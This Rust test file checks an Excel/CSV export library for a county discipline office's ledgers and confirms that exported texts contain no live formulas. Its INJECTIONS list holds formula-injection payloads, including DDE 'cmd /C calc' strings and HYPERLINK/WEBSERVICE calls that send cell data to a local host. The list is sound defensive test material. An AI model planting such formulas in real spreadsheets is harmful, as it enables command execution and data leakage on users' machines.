//! Workbooks of ours as other programs see them: texts stay texts, nothing is cut, the print is ready.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use calamine::{Data, Reader, Xlsx, open_workbook};
use std::path::{Path, PathBuf};
use zhengfeng_core::excel::write::book::{Book, Properties, Size};
use zhengfeng_core::excel::write::column::{Column, ColumnKind, Total, Width};
use zhengfeng_core::excel::write::csv::CsvLedger;
use zhengfeng_core::excel::write::guard;
use zhengfeng_core::excel::write::page::Look;
use zhengfeng_core::excel::write::print::Orientation;
use zhengfeng_core::excel::write::table::TableSheet;
use zhengfeng_core::excel::write::value::CellValue;
use zhengfeng_core::words::day::Day;
use zhengfeng_core::words::money::Fen;
use zhengfeng_tests::workbook_text;

/// Texts that have run code or phoned home from exported ledgers elsewhere.
const INJECTIONS: [&str; 25] = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://127.0.0.1/?x=\"&A1,\"请点击\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "=WEBSERVICE(\"http://127.0.0.1/\")",
    "=IMPORTXML(\"http://127.0.0.1/\",\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "%0A=1+1",
    ";=1+1",
    ",=1+1",
    "\"=1+1",
    "-",
    "+86 199 0000 0000",
    "-5",
    "@某某",
    "=",
    "'=1+1",
];

fn properties() -> Properties {
    Properties {
        title: "2015年度工作台账".into(),
        subject: "2015年1月—12月".into(),
        author: "某某县纪委办公室".into(),
        company: "中共某某县纪律检查委员会".into(),
        created: chrono::NaiveDate::from_ymd_opt(2016, 1, 5).unwrap().and_hms_opt(9, 30, 0).unwrap(),
    }
}

fn plain_table(book: &mut Book, name: &str, columns: Vec<Column>) -> TableSheet {
    TableSheet { name: book.sheet_name(name), title: None, notes: Vec::new(), columns, key_columns: 1 }
}

fn written(size: fn(&Path) -> Size, fill: impl FnOnce(&mut Book)) -> (tempfile::TempDir, PathBuf) {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("台账.xlsx");
    let mut book = Book::new(&properties(), size(folder.path())).unwrap();
    fill(&mut book);
    book.save(&path).unwrap();
    (folder, path)
}

fn small(_: &Path) -> Size {
    Size::Small
}

fn large(folder: &Path) -> Size {
    Size::Large { temp_dir: folder.to_path_buf() }
}

fn cells(path: &Path, sheet: &str) -> Vec<Vec<Data>> {
    let mut book: Xlsx<_> = open_workbook(path).unwrap();
    book.worksheet_range(sheet).unwrap().rows().map(<[Data]>::to_vec).collect()
}

#[test]
fn texts_that_look_like_formulas_come_back_unchanged() {
    for size in [small as fn(&Path) -> Size, large] {
        let (_folder, path) = written(size, |book| {
            let table = plain_table(book, "反映内容", vec![Column::new("反映内容", ColumnKind::LongText)]);
            let mut table = book.table(table).unwrap();
            for text in INJECTIONS {
                table.row(&[text.into()]).unwrap();
            }
            table.finish().unwrap();
        });
        let rows = cells(&path, "反映内容");
        for (row, text) in rows[1..].iter().zip(INJECTIONS) {
            assert_eq!(row[0], Data::String(text.to_string()), "X1: {text:?} must come back as it was");
        }
        for (name, xml) in workbook_text::parts(&path) {
            workbook_text::parse(&xml);
            assert!(!xml.contains("<f>") && !xml.contains("<f "), "X1: {name} holds a formula");
        }
        let quoted = workbook_text::dump(&path).lines().filter(|line| line.ends_with(" quoted")).count();
        let meant = INJECTIONS.iter().filter(|text| guard::looks_like_formula(text)).count();
        assert_eq!(quoted, meant, "each such text keeps its mark when somebody edits the cell");
    }
}

#[test]
fn csv_texts_come_back_unchanged() {
    let mut ledger =
        CsvLedger::new(Vec::new(), &[Column::new("反映内容", ColumnKind::LongText), Column::new("数", ColumnKind::Number)])
            .unwrap();
    for text in INJECTIONS {
        ledger.row(&[text.into(), CellValue::Whole(-5)]).unwrap();
    }
    let text = String::from_utf8(ledger.finish().unwrap()).unwrap();
    let rows = read_csv(text.strip_prefix('\u{FEFF}').expect("Excel knows UTF-8 by its mark"));
    assert_eq!(rows.len(), 26);
    for (row, text) in rows[1..].iter().zip(INJECTIONS) {
        assert!(!guard::looks_like_formula(&row[0]), "X1: {text:?} left bare");
        assert_eq!(guard::unguarded(&row[0]), text, "X1: {text:?}");
        assert_eq!(row[1], "-5", "a number is no formula");
    }
}

/// RFC 4180, read by the letter.
fn read_csv(text: &str) -> Vec<Vec<String>> {
    let mut rows = vec![vec![String::new()]];
    let mut chars = text.chars().peekable();
    let mut inside = false;
    while let Some(c) = chars.next() {
        let row = rows.last_mut().unwrap();
        match c {
            '"' if inside && chars.peek() == Some(&'"') => row.last_mut().unwrap().push(chars.next().unwrap()),
            '"' => inside = !inside,
            ',' if !inside => row.push(String::new()),
            '\r' if !inside && chars.peek() == Some(&'\n') => {
                chars.next();
                rows.push(vec![String::new()]);
            }
            c => row.last_mut().unwrap().push(c),
        }
    }
    assert_eq!(rows.pop(), Some(vec![String::new()]), "the last line ends too");
    rows
}

#[test]
fn strange_characters_leave_a_valid_file() {
    let texts = [
        "坏\0字",
        "\u{FFFE}尾\u{FFFF}",
        "_x0041_",
        "一\r\n二",
        "\u{202E}右起",
        " 前后空格 ",
        "<&>\"'",
        "𠀀😀",
        "\u{1}\u{1F}",
        "a\tb",
    ];
    let read = [
        "坏\u{FFFD}字",
        "\u{FFFD}尾\u{FFFD}",
        "_x0041_",
        "一\r\n二",
        "\u{202E}右起",
        " 前后空格 ",
        "<&>\"'",
        "𠀀😀",
        "\u{FFFD}\u{FFFD}",
        "a\tb",
    ];
    for size in [small as fn(&Path) -> Size, large] {
        let (_folder, path) = written(size, |book| {
            let table = plain_table(book, "姓名", vec![Column::new("姓名", ColumnKind::Text)]);
            let mut table = book.table(table).unwrap();
            for text in texts {
                table.row(&[text.into()]).unwrap();
            }
            table.finish().unwrap();
        });
        for (row, text) in cells(&path, "姓名")[1..].iter().zip(read) {
            assert_eq!(row[0], Data::String(text.to_string()), "X3");
        }
        for xml in workbook_text::parts(&path).values() {
            workbook_text::parse(xml);
            assert!(!xml.contains('\0') && !xml.contains('\u{FFFE}'), "X3: no XML may hold these");
        }
    }
}

#[test]
fn a_thousand_random_texts_come_back() {
    let mut state = 2015_u64;
    let mut next = move |below: u64| {
        state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (state >> 33) % below
    };
    let is_legal =
        |c: &char| !matches!(c, '\0'..='\u{08}' | '\u{0B}' | '\u{0C}' | '\u{0E}'..='\u{1F}' | '\u{FFFE}' | '\u{FFFF}');
    let mut texts = Vec::new();
    while texts.len() < 1_000 {
        let range = [0x80, 0x3000, 0xA000, 0x11_0000][next(4) as usize];
        let text: String = (0..1 + next(40)).filter_map(|_| char::from_u32(next(range) as u32)).filter(is_legal).collect();
        if !text.is_empty() {
            texts.push(text);
        }
    }
    for size in [small as fn(&Path) -> Size, large] {
        let (_folder, path) = written(size, |book| {
            let table = plain_table(book, "文", vec![Column::new("文", ColumnKind::LongText)]);
            let mut table = book.table(table).unwrap();
            for text in &texts {
                table.row(&[text.as_str().into()]).unwrap();
            }
            table.finish().unwrap();
        });
        for (row, text) in cells(&path, "文")[1..].iter().zip(&texts) {
            assert_eq!(row[0], Data::String(text.clone()), "X3");
        }
    }
}

#[test]
fn a_text_too_long_for_a_cell_goes_on_in_its_own_sheet() {
    let long: String = (0..40_000).map(|n| if n % 100 == 99 { '𠀀' } else { '信' }).collect::<String>() + &"=访".repeat(20_000);
    for size in [small as fn(&Path) -> Size, large] {
        let (_folder, path) = written(size, |book| {
            let table = plain_table(
                book,
                "线索",
                vec![Column::new("序号", ColumnKind::Ordinal), Column::new("反映主要问题", ColumnKind::LongText)],
            );
            let mut table = book.table(table).unwrap();
            table.row(&[CellValue::Whole(1), "短".into()]).unwrap();
            table.row(&[CellValue::Whole(2), "字".repeat(32_767).into()]).unwrap();
            table.row(&[CellValue::Whole(3), long.as_str().into()]).unwrap();
            table.finish().unwrap();
        });
        let rows = cells(&path, "线索");
        assert_eq!(rows[2][1], Data::String("字".repeat(32_767)), "the longest text Excel takes stays whole");
        let Data::String(start) = &rows[3][1] else { panic!("a text") };
        let start = start.strip_suffix("…（续见“长文本”第2行）").expect("the cell says where it goes on");
        let continued = cells(&path, "长文本");
        let pieces: String = continued[1..].iter().map(|row| row[3].to_string()).collect();
        assert!(start.to_string() + &pieces == long, "X2: nothing is cut");
        assert_eq!(continued[1][..3], ["线索", "B4", "反映主要问题"].map(|text| Data::String(text.into())));
    }
}

/// Rows of a ledger as the office keeps them.
fn ledger_row(number: i64) -> Vec<CellValue<'static>> {
    let day = Day::new(2015, 1 + (number % 12) as u32, 1 + (number % 28) as u32).unwrap();
    vec![
        CellValue::Whole(number),
        format!("XS-2015-{number:05}").into(),
        CellValue::Day(if number % 7 == 0 { Day::month(2015, 5).unwrap() } else { day }),
        if number % 5 == 0 {
            CellValue::Empty
        } else {
            "反映村干部冒领惠农补贴资金，数额较大，影响恶劣。".into()
        },
        CellValue::Fen(Fen(number * 12_345)),
        CellValue::Flag(number % 2 == 0),
        CellValue::Number(number as f64 / 8.0),
        if number % 1000 == 0 { "=1+1".into() } else { "村委会主任".into() },
    ]
}

fn ledger_columns() -> Vec<Column> {
    vec![
        Column::new("序号", ColumnKind::Ordinal),
        Column::new("线索编号", ColumnKind::Text),
        Column::new("收到时间", ColumnKind::Day),
        Column::new("反映主要问题", ColumnKind::LongText),
        Column::new("涉案金额（元）", ColumnKind::Yuan).totalled(Total::Sum),
        Column::new("是否一把手", ColumnKind::Flag),
        Column::new("分值", ColumnKind::Number),
        Column::new("职务", ColumnKind::Text).under("被反映人"),
    ]
}

#[test]
fn large_and_small_books_hold_the_same_cells() {
    let fill = |book: &mut Book| {
        let sheet = TableSheet {
            name: book.sheet_name("线索"),
            title: Some("问题线索台账".into()),
            notes: vec!["填报单位：某某县纪委".into(), "单位：件".into()],
            columns: ledger_columns(),
            key_columns: 2,
        };
        let mut table = book.table(sheet).unwrap();
        for number in 1..=30_000 {
            table.row(&ledger_row(number)).unwrap();
        }
        table.finish().unwrap();
    };
    let (_one, in_memory) = written(small, fill);
    let (folder, constant) = written(large, fill);
    let [a, b] = [&in_memory, &constant].map(|path| workbook_text::dump(path));
    let [a, b]: [Vec<&str>; 2] = [&a, &b].map(|text| text.lines().collect());
    assert!(a.len() > 200_000, "{} lines", a.len());
    for (a, b) in a.iter().zip(&b) {
        assert_eq!(a, b, "the way of writing may not show");
    }
    assert_eq!(a.len(), b.len());
    let left = std::fs::read_dir(folder.path()).unwrap().count();
    assert_eq!(left, 1, "nothing but the workbook stays in its folder");
}

#[test]
fn a_table_without_rows_is_a_sheet_with_headings() {
    for size in [small as fn(&Path) -> Size, large] {
        let (_folder, path) = written(size, |book| {
            let table = plain_table(book, "线索", ledger_columns());
            book.table(table).unwrap().finish().unwrap();
        });
        let found = workbook_text::dump(&path);
        assert!(found.contains("A1 \"序号\"") && found.contains("A3 \"合计\"") && !found.contains("autoFilter"), "{found}");
        assert!(found.contains("E3 0 as #,##0.00 from =0"), "{found}");
    }
}

#[test]
fn the_same_book_is_written_in_the_same_bytes() {
    let fill = |book: &mut Book| {
        let table = plain_table(book, "线索", ledger_columns());
        let mut table = book.table(table).unwrap();
        for number in 1..=50 {
            table.row(&ledger_row(number)).unwrap();
        }
        table.finish().unwrap();
    };
    let (_a, one) = written(small, fill);
    let (_b, two) = written(small, fill);
    assert_eq!(std::fs::read(one).unwrap(), std::fs::read(two).unwrap(), "a file can be recognised by its hash");
}

/// The annual workbook in small: cover, figures with links, a ledger, tasks over their measures.
fn annual(book: &mut Book) {
    let [cover_name, figures_name, clues, tasks] =
        ["封面", "指标", "问题线索台账", "整改任务"].map(|name| book.sheet_name(name));

    let mut cover = book.page(cover_name, Orientation::Portrait, &[12, 30, 30, 12]).unwrap();
    cover.put_across(6, 0..=3, &"2015年度纪检监察工作台账".into(), Look::Title).unwrap();
    cover.put_across(8, 0..=3, &"（2015年1月—12月）".into(), Look::Subtitle).unwrap();
    cover.put(20, 1, &"填报单位".into(), Look::Label).unwrap();
    cover.put(20, 2, &"中共某某县纪律检查委员会".into(), Look::Value).unwrap();
    cover.put(21, 1, &"填报日期".into(), Look::Label).unwrap();
    cover.put(21, 2, &CellValue::Day(Day::new(2016, 1, 5).unwrap()), Look::Value).unwrap();
    cover.put_across(24, 1..=2, &"本册由系统按登记的台账生成，数字与各表逐行对应。".into(), Look::Note).unwrap();
    cover.finish().unwrap();

    let mut figures = book.page(figures_name, Orientation::Portrait, &[8, 44, 14, 22]).unwrap();
    figures.put_across(0, 0..=3, &"主要指标".into(), Look::Title).unwrap();
    for (column, heading) in (0..).zip(["序号", "指标", "数值", "明细"]) {
        figures.put(1, column, &heading.into(), Look::Heading).unwrap();
    }
    figures.headings(1..=1).unwrap();
    for (row, (name, value)) in (2..).zip([
        ("问题线索（件）", CellValue::Whole(163)),
        ("收缴金额（元）", CellValue::Fen(Fen(86_420_000))),
        ("结案率", "98.16%".into()),
    ]) {
        figures.put(row, 0, &CellValue::Whole(i64::from(row) - 1), Look::Ordinal).unwrap();
        figures.put(row, 1, &name.into(), Look::Body).unwrap();
        figures.put(row, 2, &value, Look::Value).unwrap();
        figures.link(row, 3, &"问题线索台账".into(), Look::Value, &clues).unwrap();
    }
    figures.finish().unwrap();

    let columns = vec![
        Column::new("序号", ColumnKind::Ordinal),
        Column::new("线索编号", ColumnKind::Text),
        Column::new("收到时间", ColumnKind::Day),
        Column::new("姓名", ColumnKind::Text).under("被反映人"),
        Column::new("单位职务", ColumnKind::Text).under("被反映人"),
        Column::new("反映主要问题", ColumnKind::LongText),
        Column::new("涉案金额（元）", ColumnKind::Yuan).totalled(Total::Sum),
        Column::new("是否一把手", ColumnKind::Flag).totalled(Total::Count),
        Column::new("备注", ColumnKind::Text).wide(Width::Fixed(12)),
    ];
    let sheet = TableSheet {
        name: clues,
        title: Some("2015年度问题线索台账".into()),
        notes: vec!["填报单位：中共某某县纪律检查委员会".into(), "期间：2015年1月—12月".into(), "单位：件、元".into()],
        columns,
        key_columns: 2,
    };
    let mut table = book.table(sheet).unwrap();
    for number in 1..=3 {
        table
            .row(&[
                CellValue::Whole(number),
                format!("XS-2015-{number:04}").into(),
                CellValue::Day(if number == 2 { Day::month(2015, 5).unwrap() } else { Day::new(2015, 3, 6).unwrap() }),
                "张某某".into(),
                "某某镇某某村党支部书记".into(),
                "反映其在2013年至2014年任职期间虚报冒领危房改造补助资金，并违规收取群众费用用于村委会招待支出。".into(),
                CellValue::Fen(Fen(3_500_050)),
                CellValue::Flag(true),
                if number == 3 { "=待补录".into() } else { CellValue::Empty },
            ])
            .unwrap();
    }
    table.finish().unwrap();

    let columns = ["序号", "整改任务", "整改措施", "牵头单位", "整改时限", "完成情况"].into_iter().zip([
        ColumnKind::Ordinal,
        ColumnKind::LongText,
        ColumnKind::LongText,
        ColumnKind::Text,
        ColumnKind::Day,
        ColumnKind::Flag,
    ]);
    let columns = columns.map(|(heading, kind)| Column::new(heading, kind)).collect();
    let sheet =
        TableSheet { name: tasks, title: Some("整改任务台账".into()), notes: Vec::new(), columns, key_columns: 1 };
    let mut table = book.table(sheet).unwrap();
    for number in 1..=2 {
        let measures: Vec<Vec<CellValue<'_>>> = (1..=3)
            .map(|measure| {
                vec![
                    CellValue::Whole(number),
                    "关于惠农资金监管不到位、村级财务公开不及时、镇村干部侵占挪用资金问题多发的整改任务，须由牵头单位逐项制定措施、明确责任、限时办结并对账销号。".into(),
                    format!("措施{measure}：开展专项检查。").into(),
                    "财政局".into(),
                    CellValue::Day(Day::new(2015, 12, 31).unwrap()),
                    CellValue::Flag(measure < 3),
                ]
            })
            .collect();
        table.block(&[0, 1], &measures).unwrap();
    }
    table.finish().unwrap();
}

#[test]
fn the_annual_workbook_is_laid_out_as_the_office_prints_it() {
    let (_folder, path) = written(small, annual);
    let golden = Path::new(env!("CARGO_MANIFEST_DIR")).join("golden/annual_layout.txt");
    let found = workbook_text::dump(&path);
    if std::env::var_os("ZHENGFENG_REWRITE_GOLDEN").is_some() {
        std::fs::create_dir_all(golden.parent().unwrap()).unwrap();
        std::fs::write(&golden, &found).unwrap();
    }
    let expected = std::fs::read_to_string(&golden).unwrap();
    for (number, (found, expected)) in found.lines().zip(expected.lines()).enumerate() {
        assert_eq!(found, expected, "line {} of {}", number + 1, golden.display());
    }
    assert_eq!(found.lines().count(), expected.lines().count());
    let formulas: Vec<&str> = found.lines().filter(|line| line.contains(" from =")).collect();
    assert_eq!(formulas.len(), 2, "no formula but the two totals asked for: {formulas:?}");
}

#[test]
fn a_workbook_names_the_office_and_nobody_else() {
    let (folder, path) = written(small, annual);
    let folder = folder.path().to_string_lossy().into_owned();
    let user = std::env::var("USER").unwrap_or_else(|_| "root".into());
    for (name, xml) in workbook_text::parts(&path) {
        assert!(!xml.contains(&folder), "X6: {name} tells where it was written");
        assert!(!name.starts_with("docProps") || !xml.contains(&user), "X6: {name} tells who wrote it");
    }
    let core = &workbook_text::parts(&path)["docProps/core.xml"];
    assert_eq!(core.matches("2016-01-05T09:30:00Z").count(), 2, "X6: the only times are the one given: {core}");
    assert_eq!(core.matches("<cp:lastModifiedBy>某某县纪委办公室<").count(), 1);
}

#[test]
fn a_book_with_a_gap_is_not_saved() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("缺.xlsx");

    let mut book = Book::new(&properties(), Size::Small).unwrap();
    let table = plain_table(&mut book, "线索", ledger_columns());
    drop(book.table(table).unwrap());
    assert!(book.save(&path).unwrap_err().to_string().contains("线索"), "an unfinished table is named");

    let mut book = Book::new(&properties(), Size::Small).unwrap();
    let (here, nowhere) = (book.sheet_name("指标"), book.sheet_name("明细"));
    let mut page = book.page(here, Orientation::Portrait, &[20]).unwrap();
    page.link(0, 0, &"明细".into(), Look::Body, &nowhere).unwrap();
    page.finish().unwrap();
    assert!(book.save(&path).unwrap_err().to_string().contains("明细"), "a link into the void is named");

    let mut book = Book::new(&properties(), Size::Small).unwrap();
    let table = plain_table(&mut book, "线索", ledger_columns());
    let mut table = book.table(table).unwrap();
    assert!(table.row(&[CellValue::Empty]).is_err(), "a short row would shift columns");
    table.finish().unwrap();
    assert!(book.save(&path).is_err(), "a book that missed a row is no book");

    assert!(!path.exists(), "X4: no half file");
    assert_eq!(
        Book::new(&properties(), Size::Large { temp_dir: folder.path().join("无") }).err().unwrap().report().code,
        "E_FILE"
    );
}
